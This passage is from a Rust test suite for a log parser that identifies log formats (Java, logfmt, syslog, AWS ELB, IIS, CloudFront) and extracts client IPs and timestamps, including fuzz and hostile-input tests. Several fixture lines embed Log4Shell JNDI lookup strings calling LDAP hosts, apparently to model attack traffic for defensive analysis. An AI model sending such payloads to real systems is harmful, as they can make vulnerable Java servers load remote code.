            Some(IpAddr::V6(Ipv6Addr::new(
                0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x25,
            ))),
            None,
        );
    }

    #[test]
    fn java_message_keys_only_where_delimited() {
        let at = |msg: &str| {
            let line = format!("2021-12-10 12:00:00,000 INFO c.e.A - {msg}");
            let got = line_context(line.as_bytes(), 2021);
            assert_eq!(got.layout, Some(Layout::JavaApp), "{line}");
            got.source_ip
        };
        // Never a bare address, a query string's parameter, a network or
        // a key that only ends like one.
        assert_eq!(at("connect to 192.0.2.30 failed"), None);
        assert_eq!(at("GET /?ip=192.0.2.31&x=1"), None);
        assert_eq!(at("allow ip=10.0.0.0/8"), None);
        assert_eq!(at("zip=192.0.2.32 myip=192.0.2.33"), None);
        assert_eq!(at("ip=192.0.2.34x"), None);
        assert_eq!(at("ip=-"), None);
        // Quoted, at the start, at the end of a sentence.
        assert_eq!(at("ip='192.0.2.35'"), v4(192, 0, 2, 35));
        assert_eq!(at("remote_addr: 192.0.2.36."), v4(192, 0, 2, 36));
        assert_eq!(at("(client 1) client: 192.0.2.37:5000"), v4(192, 0, 2, 37));
        // The better key wins wherever it is; equal keys: the first.
        assert_eq!(
            at("ip=192.0.2.38 user=x remoteAddr=192.0.2.39"),
            v4(192, 0, 2, 39)
        );
        assert_eq!(at("ip=192.0.2.40 ip=192.0.2.41"), v4(192, 0, 2, 40));
        // A quoted key needs its opening quote.
        assert_eq!(at("x\"ip\":\"192.0.2.42\""), None);
        assert_eq!(at("{\"ip\": \"192.0.2.43\"}"), v4(192, 0, 2, 43));
    }

    #[test]
    fn java_needs_a_level() {
        for line in [
            "2021-12-10 12:00:00,000 starting",
            "2021-12-10 12:00:00,000 [main] starting",
            "2021-12-10 12:00:00,000 INFORMATION x",
            "2021-12-10 12:00:00,000 info x",
            "10-Dec-2021 10:00:00.123 [main] x",
            "17:46:40 hello",
        ] {
            assert_eq!(
                line_context(line.as_bytes(), 2021),
                LineContext::default(),
                "{line}"
            );
        }
        // An rsyslog host name is not a level: still syslog.
        check(
            "2021-12-10T12:00:00Z web-01 app[1]: INFO remote_addr=192.0.2.44",
            Layout::Syslog3164,
            None,
            Some("2021-12-10T12:00:00Z"),
        );
    }

    #[test]
    fn logfmt_lines() {
        check(
            r#"time="2021-12-10T10:00:00Z" level=info client_ip=198.51.100.2 msg="GET /?q=${jndi:ldap://203.0.113.7/a} \"quoted\"""#,
            Layout::Logfmt,
            v4(198, 51, 100, 2),
            Some("2021-12-10T10:00:00Z"),
        );
        check(
            "ts=2021-12-10T10:00:00.123456789+01:00 caller=main.go:42 level=warn remote_addr=[2001:db8::3]:443",
            Layout::Logfmt,
            Some(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 3))),
            Some("2021-12-10T09:00:00.123456789Z"),
        );
        // Heroku's router: `fwd` is the client.
        check(
            r#"at=info method=GET path="/?x=${jndi:ldap://203.0.113.8/a}" host=app.example.com request_id=8601b555 fwd="198.51.100.4, 10.1.2.3" dyno=web.1 connect=0ms service=7ms status=200 bytes=13 protocol=https"#,
            Layout::Logfmt,
            v4(198, 51, 100, 4),
            None,
        );
        // Escaped quotes do not end a value; the better key wins.
        check(
            r#"@timestamp=1639130400 msg="say \"ip=192.0.2.5\" \\" ip=192.0.2.6 x_forwarded_for="192.0.2.7,10.0.0.1" remote_ip=192.0.2.8"#,
            Layout::Logfmt,
            v4(192, 0, 2, 8),
            Some("2021-12-10T10:00:00Z"),
        );
        // A message that is an access line.
        check(
            r#"level=info msg="192.0.2.9 - - [10/Dec/2021:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5""#,
            Layout::Logfmt,
            v4(192, 0, 2, 9),
            Some("2021-12-10T10:00:00Z"),
        );
        // Truncated inside a quoted value: the pairs before it count.
        check(
            r#"level=error ip=192.0.2.10 msg="${jndi:ldap://"#,
            Layout::Logfmt,
            v4(192, 0, 2, 10),
            None,
        );
    }

    #[test]
    fn logfmt_needs_two_pairs_and_a_known_key() {
        for line in [
            "level=info",
            "a=b c=d e=f",
            "msg=\"unterminated level=info",
            "Level = info ip = 192.0.2.1",
            "9a=b level=info",
            "user=x \"level=info\"",
        ] {
            assert_eq!(
                line_context(line.as_bytes(), 2021),
                LineContext::default(),
                "{line}"
            );
        }
    }

    #[test]
    fn syslog_wrapping_logfmt() {
        check(
            r#"2021-12-10T10:00:00.000000+00:00 heroku[router]: at=info method=GET path="/" host=a.example.com fwd="203.0.113.11" status=200"#,
            Layout::Syslog3164,
            v4(203, 0, 113, 11),
            Some("2021-12-10T10:00:00Z"),
        );
    }

    #[test]
    fn aws_load_balancers() {
        check(
            r#"https 2021-12-10T10:00:00.123456Z app/my-lb/50dc6c495c0c9188 203.0.113.9:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2021-12-10T09:59:59.999000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-""#,
            Layout::AwsLoadBalancer,
            v4(203, 0, 113, 9),
            Some("2021-12-10T10:00:00.123456Z"),
        );
        check(
            r#"h2 2021-12-10T10:00:01Z app/my-lb/50dc6c495c0c9188 2001:db8::9:2817 - -1 -1 -1 503 - 0 0 "GET https://x:443/ HTTP/2.0" "-" - - - "-" "-" "-" - 2021-12-10T10:00:01Z "-" "-" "-" "-" "-" "-" "-""#,
            Layout::AwsLoadBalancer,
            Some(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 9))),
            Some("2021-12-10T10:00:01Z"),
        );
        // Classic: no type; it must not fall to syslog's ISO form.
        check(
            r#"2021-12-10T10:00:00.123456Z my-elb 203.0.113.12:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -"#,
            Layout::AwsLoadBalancer,
            v4(203, 0, 113, 12),
            Some("2021-12-10T10:00:00.123456Z"),
        );
        // The wrong shape after the name.
        for line in [
            "https 2021-12-10T10:00:00Z app/x/1 nothost 10.0.0.1:80 0.1 0.1 0.1",
            "https 2021-12-10T10:00:00Z app/x/1 203.0.113.1:1 10.0.0.1:80 fast",
            "ws 2021-12-10T10:00:00Z",
        ] {
            assert_eq!(
                line_context(line.as_bytes(), 2021),
                LineContext::default(),
                "{line}"
            );
        }
    }

    #[test]
    fn iis_w3c() {
        check(
            "2021-12-10 10:00:00 10.0.0.5 GET /index.html q=${jndi:ldap://198.51.100.13/a} 443 - 203.0.113.7 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 200 0 0 15",
            Layout::Iis,
            v4(203, 0, 113, 7),
            Some("2021-12-10T10:00:00Z"),
        );
        // IIS 6: `s-sitename` first; IPv6 client.
        check(
            "2021-12-10 10:00:01 W3SVC1 10.0.0.5 POST /api - 80 - 2001:db8::14 ${jndi:ldap://198.51.100.14/a} 500 0 0",
            Layout::Iis,
            Some(IpAddr::V6(Ipv6Addr::new(
                0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x14,
            ))),
            Some("2021-12-10T10:00:01Z"),
        );
        // A long URI pushes the client past the header window.
        let long = format!(
            "2021-12-10 10:00:02 10.0.0.5 GET /{} - 443 - 203.0.113.15 UA - 404 0 2 1",
            "a".repeat(3 * HEADER_SCAN)
        );
        check(
            &long,
            Layout::Iis,
            v4(203, 0, 113, 15),
            Some("2021-12-10T10:00:02Z"),
        );
        for line in [
            "#Software: Microsoft Internet Information Services 10.0",
            "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
            "2021-12-10 10:00:00 10.0.0.5 get /",
        ] {
            assert_eq!(
                line_context(line.as_bytes(), 2021),
                LineContext::default(),
                "{line}"
            );
        }
    }

    #[test]
    fn cloudfront() {
        check(
            "2021-12-10\t10:00:00\tLHR62-C2\t2390\t203.0.113.16\tGET\td111111abcdef8.cloudfront.net\t/index.html\t200\t-\tcurl/7.68.0\tq=%24%7Bjndi:ldap://198.51.100.16/a%7D\t-\tHit\tSOX4xwn4XV6Q4rgb7XiVGOHms_BGlTAC4KyHmureZmBNrjGdRLiNIQ==\td111111abcdef8.cloudfront.net\thttps\t23\t0.001\t-\tTLSv1.2\tECDHE-RSA-AES128-GCM-SHA256\tHit\tHTTP/2.0\t-\t-\t11040\t0.001\tHit\ttext/html\t78\t-\t-",
            Layout::CloudFront,
            v4(203, 0, 113, 16),
            Some("2021-12-10T10:00:00Z"),
        );
        assert_eq!(
            line_context(
                b"2021-12-10\t10:00:00\tLHR62-C2\tmany\t203.0.113.16\tGET",
                2021
            ),
            LineContext::default()
        );
    }

    #[test]
    fn unknown_lines_are_empty() {
        for line in [
            "",
            "hello world",
            "java.lang.NullPointerException: null",
            "\tat com.example.App.main(App.java:10)",
            "- - - [nope] x",
            "1.2.3.4 - - [10/Foo/2021:13:55:36 +0000] x",
            "<>Oct 11 22:14:15 h a: b",
            "<34>1 junk",
        ] {
            assert_eq!(
                line_context(line.as_bytes(), 2021),
                LineContext::default(),
                "{line}"
            );
        }
    }

    #[test]
    fn hostile_input() {
        // Invalid UTF-8 in each position.
        let mut line = br#"192.0.2.1 - - [10/Dec/2021:13:55:36 +0000] "GET /"#.to_vec();
        line.extend_from_slice(b"\xff\xfe\xc3");
        assert_eq!(line_context(&line, 2021).source_ip, v4(192, 0, 2, 1));
        assert_eq!(
            line_context(b"\xff\xfe - - [10/Dec/2021:13:55:36 +0000]", 2021).source_ip,
            None
        );
        let got = line_context(b"{\"remote_addr\":\"\xff\"}", 2021);
        assert_eq!(
            got,
            LineContext {
                layout: Some(Layout::JsonLines),
                ..LineContext::default()
            }
        );
        // A huge line of each kind: linear, bounded.
        let big = vec![b'A'; 8 << 20];
        for prefix in [
            &b"{\"message\":\""[..],
            b"<34>1 ",
            b"<34>Oct 11 22:14:15 ",
            b"[Fri Dec 10 12:00:00 2021]",
            b"2021/12/10 12:00:00 [error] ",
            b"1.2.3.4 ",
            b"",
        ] {
            let mut line = prefix.to_vec();
            line.extend_from_slice(&big);
            let _ = line_context(&line, 2021);
        }
        let mut many = b"2021/12/10 12:00:00 [error] ".to_vec();
        many.extend(b", client: ".repeat(500_000));
        assert_eq!(line_context(&many, 2021).source_ip, None);
        let mut sshd = b"Dec 10 12:00:00 h sshd[1]: ".to_vec();
        sshd.extend(b" from ".repeat(500_000));
        assert_eq!(line_context(&sshd, 2021).source_ip, None);
        // Deep nesting stops at serde_json's recursion limit.
        let mut deep = b"{\"a\":".to_vec();
        deep.extend(b"[".repeat(100_000));
        assert_eq!(line_context(&deep, 2021).layout, Some(Layout::JsonLines));
        // Out-of-range values.
        for line in [
            &b"1.2.3.4 - - [99/Dec/2021:99:99:99 +9999] x"[..],
            b"{\"time\":1e308,\"ts\":-9223372036854775808,\"date\":\"9999-12-31T23:59:59-23:59\"}",
            b"{\"time\":\"99999999999999999999999999999999999999999\"}",
            b"<99999>1 - - - - - -",
            b"[Fri Dec 10 25:61:61.9999999999999 2021] [x]",
        ] {
            let _ = line_context(line, 2021);
        }
    }

    #[test]
    fn hostile_input_service_layouts() {
        let big = vec![b'A'; 8 << 20];
        for prefix in [
            &b"2021-12-10 12:00:00,000 INFO "[..],
            b"2021-12-10 12:00:00,000 [",
            b"10-Dec-2021 10:00:00.123 INFO [",
            b"17:46:40.080 ",
            b"time=\"",
            b"level=info msg=",
            b"https 2021-12-10T10:00:00Z ",
            b"2021-12-10T10:00:00Z my-elb ",
            b"2021-12-10 10:00:00 10.0.0.5 GET ",
            b"2021-12-10\t10:00:00\t",
        ] {
            let mut line = prefix.to_vec();
            line.extend_from_slice(&big);
            let _ = line_context(&line, 2021);
        }
        // Many candidate keys, separators, escapes and brackets: each costs
        // a bounded look, so these stay linear.
        for (prefix, unit) in [
            (&b"2021-12-10 12:00:00,000 INFO "[..], &b" ip="[..]),
            (b"2021-12-10 12:00:00,000 INFO ", b" ip=192.0.2.1"),
            (b"2021-12-10 12:00:00,000 INFO ", b"=:"),
            (b"2021-12-10 12:00:00,000 INFO ", b" \"remote_addr\": ["),
            (
                b"2021-12-10 12:00:00,000 INFO ",
                b"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx:",
            ),
            (b"level=info ", b"a=\"\\\""),
            (b"level=info ", b"ip=1 "),
            (b"level=info msg=\"", b"\\\""),
            (b"2021-12-10 10:00:00 10.0.0.5 GET ", b"a"),
        ] {
            let mut line = prefix.to_vec();
            line.extend(unit.repeat((4 << 20) / unit.len()));
            let _ = line_context(&line, 2021);
        }
        let mut many = b"2021-12-10 12:00:00,000 INFO ".to_vec();
        many.extend(b" ip=192.0.2.1 remote_addr=".repeat(200_000));
        assert_eq!(line_context(&many, 2021).source_ip, v4(192, 0, 2, 1));
        // Out-of-range values.
        for line in [
            &b"2021-13-45 25:61:61,999 INFO x"[..],
            b"99-Foo-2021 99:99:99.9 INFO x",
            b"99:99:99.9 INFO x",
            b"time=\"9999-12-31T23:59:59-23:59\" ts=-99999999999999999999 level=x",
            b"https 9999-99-99T99:99:99Z a 1.2.3.4:99999 - -1",
            b"2021-02-30 10:00:00 10.0.0.5 GET / - 443 - 1.2.3.4",
            b"2021-02-30\t10:00:00\tX\t1\t1.2.3.4\tGET",
        ] {
            let _ = line_context(line, 2021);
        }
    }

    #[test]
    fn every_truncation_of_known_lines_is_safe() {
        let lines = [
            r#"www.example.com:443 2001:db8::7 - - [10/Dec/2021:13:55:36 +0000] "GET / HTTP/2.0" 200 5 "-" "-""#,
            r#"2021/12/10 12:00:00 [error] 123#0: *1 x, client: 192.0.2.10, server: example.com"#,
            "[Fri Dec 10 12:00:00.123456 2021] [core:error] [pid 123:tid 4] [client 192.0.2.44:5678] AH00126",
            r#"{"@timestamp":"2021-12-10T12:00:00.123+01:00","source":{"ip":"192.0.2.1"},"log":"a"}"#,
            "<34>Oct 11 22:14:15 mymachine sshd[12]: x from 192.0.2.1 port 5",
            r#"<165>1 2003-08-24T05:14:15.000003-07:00 h p 8 - [a b="\"]"] m"#,
            "2021-12-26T17:46:40.080+01:00  INFO 4242 --- [main] c.e.App : {\"clientIp\":\"[2001:db8::1]:5\"}",
            "10-Dec-2021 10:00:01.5 SEVERE [exec-3] o.e.F rejected x-forwarded-for: 192.0.2.24, 10.0.0.1",
            r#"time="2021-12-10T10:00:00Z" level=info client_ip=198.51.100.2 msg="a \"b\" \\""#,
            "https 2021-12-10T10:00:00.123456Z app/my-lb/50dc 203.0.113.9:2817 10.0.0.1:80 0.086 0.048",
            "2021-12-10 10:00:01 W3SVC1 10.0.0.5 POST /api - 80 - 2001:db8::14 UA 500 0 0",
            "2021-12-10\t10:00:00\tLHR62-C2\t2390\t203.0.113.16\tGET\td1.cloudfront.net",
        ];
        for line in lines {
            for n in 0..=line.len() {
                let _ = line_context(&line.as_bytes()[..n], 2021);
            }
        }
    }

    mod prop {
        use super::super::line_context;
        use proptest::prelude::*;

        fn prefixes() -> impl Strategy<Value = Vec<u8>> {
            prop_oneof![
                Just(b"".to_vec()),
                Just(b"{\"remote_addr\":".to_vec()),
                Just(b"<34>1 2003-10-11T22:14:15.003Z ".to_vec()),
                Just(b"<34>Oct 11 22:14:15 ".to_vec()),
                Just(b"[Fri Dec 10 12:00:00.1 2021] ".to_vec()),
                Just(b"2021/12/10 12:00:00 [error] ".to_vec()),
                Just(b"192.0.2.1 - - [10/Dec/2021:".to_vec()),
                Just(b"2021-12-10 12:00:00,000 [main] INFO ".to_vec()),
                Just(b"10-Dec-2021 10:00:00.123 ".to_vec()),
                Just(b"level=info ip=".to_vec()),
                Just(b"https 2021-12-10T10:00:00Z app/a/1 ".to_vec()),
                Just(b"2021-12-10 10:00:00 10.0.0.5 GET ".to_vec()),
                Just(b"2021-12-10\t10:00:00\t".to_vec()),
            ]
        }

        proptest! {
            #[test]
            fn never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..600)) {
                let _ = line_context(&bytes, 2021);
            }

            #[test]
            fn never_panics_after_a_layout_prefix(
                prefix in prefixes(),
                tail in proptest::collection::vec(
                    prop_oneof![any::<u8>(), Just(b' '), Just(b'['), Just(b']'), Just(b':'), Just(b'"'), Just(b'1'), Just(b'='), Just(b'\\'), Just(b'\t')],
                    0..300,
                ),
                year in any::<i16>(),
            ) {
                let mut line = prefix;
                line.extend_from_slice(&tail);
                let _ = line_context(&line, year);
            }
        }
    }
}
